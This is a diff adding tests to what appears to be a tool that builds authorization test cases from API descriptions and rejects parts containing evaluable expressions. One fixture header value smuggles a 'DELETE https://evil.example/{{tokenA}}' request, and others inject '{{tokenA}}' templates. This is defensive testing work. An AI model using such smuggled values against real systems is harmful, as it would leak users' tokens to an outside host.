@@ -127,6 +127,33 @@ describe("a text of a description that a runner would take for its own", () => {
     await expectOnlyOwn(changes);
   });
 
+  test("what is left out names its operation once", async () => {
+    const { manual, refused } = setOf(await apiIn(description(query("{{tokenA}}", text({})))));
+    const left = [...manual, ...refused].filter(({ operation }) => operation.id === "GET /orders/{orderId}/lines");
+    expect(left.map(({ title, why }) => `${title}: ${why}`)).toEqual([
+      "user A: list the lines of B's order: the name of a query parameter contains an expression or variable, which a runner would evaluate",
+      "anyone without a credential: GET /orders/{orderId}/lines: the name of a query parameter contains an expression or variable, which a runner would evaluate",
+    ]);
+  });
+
+  test("the reason names the operation where another call is in the way", async () => {
+    const { manual, refused } = setOf(await apiIn(description(object("{{tokenA}}", text({})))));
+    const told = [...manual, ...refused].map(({ operation, why }) => `${operation.id}: ${why}`);
+    expect(new Set(told)).toEqual(
+      new Set([
+        "DELETE /orders/{orderId}: POST /orders: its body contains an expression or variable, which a runner would evaluate",
+      ]),
+    );
+  });
+
+  test("what is tried with each of two identifiers, and must be made by hand, stands once", async () => {
+    const { manual } = setOf(
+      await apiIn(description({ path: "/orders/{orderId}/$run{x}", answered: "a/b; x={{tokenA}}" })),
+    );
+    const told = manual.map(({ rank, title, why }) => `${rank}. ${title}: ${why}`);
+    expect(told.filter((one) => one.includes("read B's x"))).toHaveLength(1);
+  });
+
   test.each<readonly [string, Changes]>([
     ["an example of a header", header("X-Baz", text({ example: "a\n\nDELETE https://evil.example/{{tokenA}}" }))],
     [
